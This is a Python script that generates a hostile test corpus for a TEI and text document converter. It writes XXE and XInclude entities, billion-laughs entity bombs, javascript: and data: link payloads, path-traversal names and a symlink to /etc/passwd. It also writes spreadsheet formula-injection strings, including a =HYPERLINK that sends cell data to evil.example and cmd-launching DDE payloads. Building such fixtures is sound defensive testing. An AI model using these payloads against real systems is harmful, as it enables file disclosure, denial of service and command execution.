"""The hostile corpus: small fixtures committed beside this script, large files made at test time.

    python tests/hostile/make_corpus.py --small         # rewrite the committed fixtures (text/, xml/)
    python tests/hostile/make_corpus.py --large DIR     # write the large files into DIR

Special files (FIFOs, /dev/zero: `special_files`), links out of a source folder (`links_out_of`),
long unsafe file names (`long_unsafe_names`) and what a killed build leaves
(`killed_build_leftovers`) are made by the tests themselves.

The XML fixtures that aim at a local file name it `@SECRET_URL@`; the tests replace that with
the URL of a file they create, holding a string that must never appear in any output.
"""

from __future__ import annotations

import argparse
import os
from pathlib import Path

HERE = Path(__file__).resolve().parent
SEED = HERE.parent.parent / "seeds" / "004_5a195c45a986ff21.txt"
TEI_OPEN = '<TEI xmlns="http://www.tei-c.org/ns/1.0">'
HEADER = ("<teiHeader><fileDesc><titleStmt><title>Hostile</title></titleStmt><publicationStmt><p>x</p>"
          "</publicationStmt><sourceDesc><p>x</p></sourceDesc></fileDesc></teiHeader>")
SECRET_URL = "@SECRET_URL@"


def _letter(record: str, body: str, title: str = "A letter") -> str:
    """A source in the archive's web layout, so the reader finds title, body and record ID."""
    return (f"Skip to content\n\nMay 4, 1988\n\n{title}\n\n{body}\n\nSource\n\nAn archive.\n\n"
            f"Type\n\nLetter\n\nRecord ID\n\n{record}\n")


def text_fixtures() -> dict[str, bytes]:
    plain = "A letter from Bucharest about the café and the “talks” – nothing more."
    return {
        "empty.txt": b"",
        "whitespace-only.txt": b"  \n\t\r\n   \n",
        "binary.txt": bytes(range(256)) * 16,
        "png-renamed.txt": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(200)),
        "utf16-bom.txt": _letter("101", plain).encode("utf-16"),
        "utf16-no-bom.txt": _letter("102", plain).encode("utf-16-le"),
        "cp1252.txt": _letter("103", plain).encode("cp1252"),
        "latin1.txt": _letter("104", "Caf\u00e9 cr\u00e8me, na\u00efve \u00bfqu\u00e9? \u00a9 1988").encode("latin-1") + b"\x81",
        "mixed-line-endings.txt": _letter("105", "First line.\r\nSecond line.\rThird line.\n\r\nFourth.").encode(),
        "control-characters.txt": _letter("106", "Text\x00 with NUL\x01 and\x0b other\x1f controls\x7f here.").encode(),
        "nested-brackets.txt": _letter("107", "[" * 10_000 + "deep" + "]" * 10_000).encode(),
        "unclosed-bracket-at-start.txt": ("[" + _letter("108", "An unclosed bracket opens the file.")).encode(),
        "rtl-and-combining.txt": _letter("109", "رسالة من القاهرة עברית שלום e\u0301te\u0301 Z\u0336a\u0334l\u0335g\u0337o "
                                         "\u202eevil\u202c \u200f\u200e").encode(),
        "title-is-a-path.txt": _letter("110", "Text.", title="../../etc/passwd").encode(),
        "record-id-with-slashes.txt": _letter("../../../tmp/evil/1", "Text.").encode(),
        # UTF-8 with one stray byte: it must stay UTF-8 (the byte becomes U+FFFD), not turn into mojibake
        "utf8-one-stray-byte.txt": _letter("111", "Летопись сообщает о встрече.").encode().replace(
            "сообщает".encode(), "сообщает".encode() + b"\xff"),
        # white space the converter normalises: no-break and ideographic spaces at line edges,
        # U+2028 at a line end, a line holding only U+200B
        "unicode-spaces-at-line-edges.txt": _letter(
            "112", "\u00a0\u00a0Indented by no-break spaces.\u3000\nA line separator ends this line\u2028\n"
            "\u200b\n\u3000\u3000Ideographic indentation and words\u00a0inside kept.").encode(),
        # the label pattern once backtracked quadratically over a long run of spaces
        "long-run-of-spaces.txt": _letter("113", "ab" + " " * 20_000 + "x\n\nab" + "\u00a0" * 20_000 + "x").encode(),
    }


def _tei(prolog: str, paragraph: str, tei_open: str = TEI_OPEN) -> bytes:
    """A small TEI file: the XML declaration, `prolog` (a DOCTYPE, a processing instruction), and
    one paragraph."""
    return (f'<?xml version="1.0"?>\n{prolog}{tei_open}{HEADER}'
            f"<text><body><p>{paragraph}</p></body></text></TEI>\n").encode()


def xml_fixtures() -> dict[str, bytes]:
    laughs = "".join(f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10}">' for i in range(1, 10))
    blob = "x" * 10_000
    return {
        "not-well-formed.xml": f"{TEI_OPEN}{HEADER}<text><body><p>open</body></text></TEI>".encode(),
        "not-tei.xml": b'<?xml version="1.0"?>\n<html><body><p>Not TEI.</p></body></html>\n',
        "xxe.xml": _tei(f'<!DOCTYPE TEI [<!ENTITY xxe SYSTEM "{SECRET_URL}">]>\n', "&xxe;"),
        "external-dtd.xml": _tei(f'<!DOCTYPE TEI SYSTEM "{SECRET_URL}">\n', "x"),
        "billion-laughs.xml": _tei(f'<!DOCTYPE TEI [<!ENTITY l0 "lol">{laughs}]>\n', "&l9;"),
        "quadratic-blowup.xml": _tei(f'<!DOCTYPE TEI [<!ENTITY a "{blob}">]>\n', "&a;" * 10_000),
        "xinclude.xml": _tei("", f'<xi:include href="{SECRET_URL}" parse="text"/>',
                             tei_open=f'{TEI_OPEN[:-1]} xmlns:xi="http://www.w3.org/2001/XInclude">'),
        "xml-stylesheet.xml": _tei(f'<?xml-stylesheet type="text/xsl" href="{SECRET_URL}"?>\n', "A styled document."),
        "formula-cells.xml": formula_cells(),
        # libxml2's message for it ends in a newline, which once printed a stray ", line 2, column 223"
        "nul-byte.xml": _tei("", "x" * 200 + "\x00"),
        # in a teiCorpus, document `id-clash`'s `b-c` and document `id-clash-b`'s `c` both become
        # `id-clash-b-c`, and the first's `b` becomes the second's own id `id-clash-b`
        "id-clash.xml": _tei("", '<seg xml:id="b-c">first b-c</seg> <seg xml:id="b">first b</seg> '
                                 '<ref target="#b-c">to b-c</ref> <ref target="#b">to b</ref>'),
        "id-clash-b.xml": _tei("", '<seg xml:id="c">second c</seg> <ref target="#c">to c</ref>'),
        # under libxml2's own limit (256), past what the PDF's layout engine can recurse through
        "deep-nesting-245.xml": _tei("", "").replace(b"<p></p>", b"<div>" * 245 + b"<p>deep</p>" + b"</div>" * 245),
    }


def _linked_tei(uri: str) -> bytes:
    """A TEI file with `uri` as its record address and in every pointer the stylesheets or the
    CMIF and Dublin Core exports turn into a link; one good link shows that links still work."""
    return (f'<?xml version="1.0"?>\n{TEI_OPEN}<teiHeader><fileDesc><titleStmt><title>Hostile links</title></titleStmt>'
            f'<publicationStmt><publisher>P</publisher><idno type="URI">{uri}</idno>'
            f'<availability><licence target="{uri}"><p>See <ref target="{uri}">the terms</ref>.</p></licence></availability>'
            f'</publicationStmt><sourceDesc><bibl>A source <ref target="{uri}">online</ref></bibl></sourceDesc></fileDesc>'
            f'<profileDesc><correspDesc ref="{uri}"><correspAction type="sent"><persName ref="{uri}">A sender</persName>'
            f'<placeName ref="{uri}">A town</placeName><date when="1950-01-02"/></correspAction>'
            f'<correspAction type="received"><orgName ref="{uri}">A ministry</orgName></correspAction></correspDesc>'
            f'</profileDesc></teiHeader><text><body><p xml:id="p1">A letter naming <persName ref="{uri}">Kim</persName>, '
            f'<placeName corresp="{uri}">Pyongyang</placeName>, <rs target="{uri}">the ministry</rs>, with '
            f'<ref target="{uri}">a reference</ref>, <ptr target="{uri}"/>, <graphic url="{uri}"/> and '
            f'<note target="{uri}" facs="{uri}">a note</note>; a good link: <ref target="https://example.org/">web</ref>.'
            f'</p></body></text></TEI>\n').encode()


def link_fixtures() -> dict[str, bytes]:
    """Script in links (issue 12): no URI outside the allow-list of tei/core/urls.py may become a link
    in the HTML, the PDF, CMIF or Dublin Core (tests/core/test_url_allowlist.py)."""
    return {
        # a javascript: pointer whose fragment names an existing id once passed as a link into the file
        "link-javascript-fragment.xml": _linked_tei("javascript:alert(1)//#p1"),
        "link-javascript-mixed-case.xml": _linked_tei("  JaVaScRiPt:alert(1)"),
        "link-javascript-tab-entity.xml": _linked_tei("java&#x09;script:alert(1)"),
        "link-data.xml": _linked_tei("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
        "link-vbscript.xml": _linked_tei("VBScript:msgbox(1)"),
        "link-protocol-relative.xml": _linked_tei("//evil.example/alert(1)"),
    }


#: Header fields that start like spreadsheet formulas (the catalogue's CSV must show them as text).
FORMULAS = {"title": '=HYPERLINK("http://evil.example/?leak="&amp;A1,"Open the letter")',
            "idno": "@SUM(1+1)*cmd|' /C calc'!A0", "settlement": "+1+cmd|' /C calc'!A0",
            "repository": "-2+3", "collection": "=1+1;=2+2", "translator": "@translator",
            "summary": "=WEBSERVICE(\"http://evil.example/\")", "uploaded": "&#9;=1+1", "mainLang": "&#13;=1+1"}


def formula_cells() -> bytes:
    f = FORMULAS
    header = (f"<teiHeader><fileDesc><titleStmt><title>{f['title']}</title><respStmt><resp>Translated by</resp>"
              f"<persName>{f['translator']}</persName></respStmt></titleStmt>"
              f"<publicationStmt><p>x</p><date type=\"uploaded\" when=\"{f['uploaded']}\"/></publicationStmt>"
              f"<sourceDesc><msDesc><msIdentifier><settlement>{f['settlement']}</settlement>"
              f"<repository>{f['repository']}</repository><collection>{f['collection']}</collection>"
              f"<idno>{f['idno']}</idno></msIdentifier><msContents><textLang mainLang=\"{f['mainLang']}\"/>"
              f"</msContents></msDesc></sourceDesc></fileDesc>"
              f"<profileDesc><abstract><p>{f['summary']}</p></abstract></profileDesc></teiHeader>")
    return (f'<?xml version="1.0"?>\n{TEI_OPEN}{header}<text><body><p>Formulas in the header.</p></body></text>'
            f"</TEI>\n").encode()


def scaling_fixtures() -> dict[str, bytes]:
    """Small TEI that a stage once took minutes over (tests/render/test_linear_time.py times each stage)."""
    return {
        # 720 bytes with a column span of 100,000 took WeasyPrint over 120 s
        "huge-colspan.xml": _tei("", "A table follows.").replace(
            b"</p></body>", b'</p><table><row><cell cols="100000">wide</cell><cell>narrow</cell></row>'
                            b'<row><cell rows="100000">tall</cell><cell>cell</cell></row></table></body>'),
    }


def write_small() -> None:
    for folder, files in (("text", text_fixtures()), ("xml", {**xml_fixtures(), **link_fixtures(), **scaling_fixtures()})):
        (HERE / folder).mkdir(exist_ok=True)
        for name, data in files.items():
            (HERE / folder / name).write_bytes(data)


# -- large files: written in chunks, so making them never holds them in memory -------------------

def _write_repeated(path: Path, head: bytes, unit: bytes, tail: bytes, size: int) -> Path:
    with path.open("wb") as out:
        out.write(head)
        written = len(head)
        chunk = unit * max(1, (1 << 20) // len(unit))
        while written + len(tail) < size:
            part = chunk[: size - len(tail) - written] if written + len(chunk) + len(tail) > size else chunk
            out.write(part)
            written += len(part)
        out.write(tail)
    return path


def text_50mb(folder: Path) -> Path:
    """A real document whose body is repeated to 50 MB."""
    seed = SEED.read_text(encoding="utf-8")
    return _write_repeated(folder / "large-50mb.txt", seed.encode(), b"\nAnother paragraph of the long document.\n",
                           b"\n", 50 * 1024 * 1024)


def text_100k_lines(folder: Path) -> Path:
    """A document of 100,000 short lines (one long block: no blank line between them)."""
    lines = "".join(f"{i}. item {i} of the list, with a [sic] mark.\n" for i in range(100_000))
    path = folder / "lines-100k.txt"
    path.write_text(_letter("112", lines.rstrip("\n")), encoding="utf-8")
    return path


def xml_200mb(folder: Path) -> Path:
    """Well-formed TEI of 200 MB: refused by size, before it is read."""
    return _write_repeated(folder / "large-200mb.xml", f"{TEI_OPEN}{HEADER}<text><body>".encode(),
                           b"<p>A paragraph of a very large file.</p>\n", b"</body></text></TEI>\n", 200 * 1024 * 1024)


def xml_deep(folder: Path, depth: int = 100_000) -> Path:
    path = folder / "deep-nesting.xml"
    path.write_bytes(f"{TEI_OPEN}{HEADER}<text><body>".encode() + b"<div>" * depth + b"<p>deep</p>"
                     + b"</div>" * depth + b"</body></text></TEI>\n")
    return path


def special_files(folder: Path) -> list[Path]:
    """Sources that are no regular files, made at test time: a FIFO (reading it would wait for a
    writer for ever) under each source suffix, and a device that never ends."""
    made = []
    for name in ("fifo.txt", "fifo.xml"):
        os.mkfifo(folder / name)
        made.append(folder / name)
    return [*made, Path("/dev/zero")]


def long_unsafe_names(folder: Path, source: Path) -> list[Path]:
    """Two copies of `source` under long names of unsafe characters that differ only at their end:
    shortened, their slugs are equal, and only the hash of the whole name tells them apart."""
    stem = "Caf\u00e9 talks: the \u00abletter\u00bb from Bucharest, " * 4
    made = []
    for ending in ("one", "two"):
        made.append(folder / f"{stem} {ending}.txt")
        made[-1].write_bytes(source.read_bytes())
    return made


def links_out_of(folder: Path, targets: list[Path]) -> list[Path]:
    """Links in a source folder to files outside it, as `ln -s /etc/passwd src/passwd.txt` makes."""
    links = []
    for target in targets:
        links.append(folder / target.name)
        links[-1].symlink_to(target)
    return links


def killed_build_leftovers(site: Path, cache: Path) -> list[Path]:
    """What builds of `site` killed part-way leave: a staging site, the old site moved aside, and a
    document's staging folder in the cache, each holding a half-written page."""
    made = [site.parent / f".{site.name}.staging-999999", site.parent / f".{site.name}.old-999998",
            cache / ".0123abcd.999997"]
    for folder in made:
        (folder / "documents").mkdir(parents=True)
        (folder / "documents" / "half.html").write_text("half written")
    return made


# -- inputs of n units on which a stage was once super-linear (issue 12; the sizes of LARGE are
# the ones that took minutes; tests/render/test_linear_time.py and bench/scaling.py time them at n and 4n)

def spaces(n: int) -> bytes:
    """The reader's label pattern backtracked: 8,000 spaces took 60 s."""
    return _letter("120", "ab" + " " * n + "x\n\nab" + "\u00a0" * n + "x").encode()


def notes(n: int) -> bytes:
    """Each footnote counted those before it: 1,000 notes took 148 s as HTML."""
    return _tei("", "".join(f"word {i}<note>Note {i}.</note> " for i in range(n)))


def translator_notes(n: int) -> bytes:
    """A text source with n translator's notes: 800 took 64 s to build (the same numbering)."""
    return _letter("124", "word [Translator's note: a remark] " * n).encode()


def lines(n: int) -> bytes:
    """Each lb looked back over its paragraph: 20,000 lines took 109 s as HTML."""
    return _tei("", "".join(f"line {i}<lb/>" for i in range(n)))


def hands(n: int) -> bytes:
    """A text source; its TEI has n `add hand` marks: each looked its handNote up in the whole file
    (4,000 took 31 s to validate)."""
    return _letter("121", "word [inserted by hand: x] " * n).encode()


def roles(n: int) -> bytes:
    """Each name copied the rest of its text: 32,000 roles in one paragraph took over 40 s."""
    return _letter("122", "the Ambassador " * n).encode()


def sic_marks(n: int) -> bytes:
    """Appending text counted the paragraph's children each time: 100,000 [sic] took over 300 s."""
    return _letter("123", "word [sic] " * n).encode()


def spans(n: int) -> bytes:
    """n rows whose first cell spans 100,000 columns (a PDF of 720 bytes took over 120 s)."""
    return _tei("", "A table follows.").replace(
        b"</p></body>", b"</p><table>" + b'<row><cell cols="100000">wide</cell><cell>narrow</cell></row>' * n
        + b"</table></body>")


SCALING = {"spaces-8000.txt": (spaces, 8_000), "notes-1000.xml": (notes, 1_000),
           "translator-notes-800.txt": (translator_notes, 800), "lines-20000.xml": (lines, 20_000),
           "hands-4000.txt": (hands, 4_000), "roles-32000.txt": (roles, 32_000),
           "sic-100000.txt": (sic_marks, 100_000), "spans-100.xml": (spans, 100)}


def _scaling(name: str):
    make, n = SCALING[name]

    def write(folder: Path) -> Path:
        (folder / name).write_bytes(make(n))
        return folder / name
    return write


LARGE = {"large-50mb.txt": text_50mb, "lines-100k.txt": text_100k_lines, "large-200mb.xml": xml_200mb,
         "deep-nesting.xml": xml_deep, **{name: _scaling(name) for name in SCALING}}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--small", action="store_true", help="rewrite the committed fixtures")
    parser.add_argument("--large", metavar="DIR", type=Path, help="write the large files into DIR")
    args = parser.parse_args()
    if args.small:
        write_small()
    if args.large:
        args.large.mkdir(parents=True, exist_ok=True)
        for make in LARGE.values():
            print(make(args.large))


if __name__ == "__main__":
    main()
